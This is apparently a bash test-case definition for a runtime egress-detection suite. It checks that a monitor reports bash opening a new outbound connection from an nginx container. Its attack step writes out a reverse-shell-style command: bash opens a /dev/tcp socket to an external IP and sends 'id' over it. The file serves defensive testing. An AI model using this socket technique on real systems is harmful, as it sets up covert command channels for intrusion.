# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a shell whose streams are a socket, by nothing but bash'
case_class=A
case_prepare() { run app pg-many sh -c 'bash -c "while sleep 0.5; do :; done" & exec nginx -g "daemon off;"'; client_of c "http://A09bash-app/"; }
case_attack() {
	in_ app timeout 2 bash -c 'exec 5<>/dev/tcp/203.0.113.9/80; echo id >&5; read -r -t 1 x <&5'
	sleep 0.5
}
case_expect='egress.new A09bash-app /usr/bin/bash ext:203.0.113.9'
case_max=4
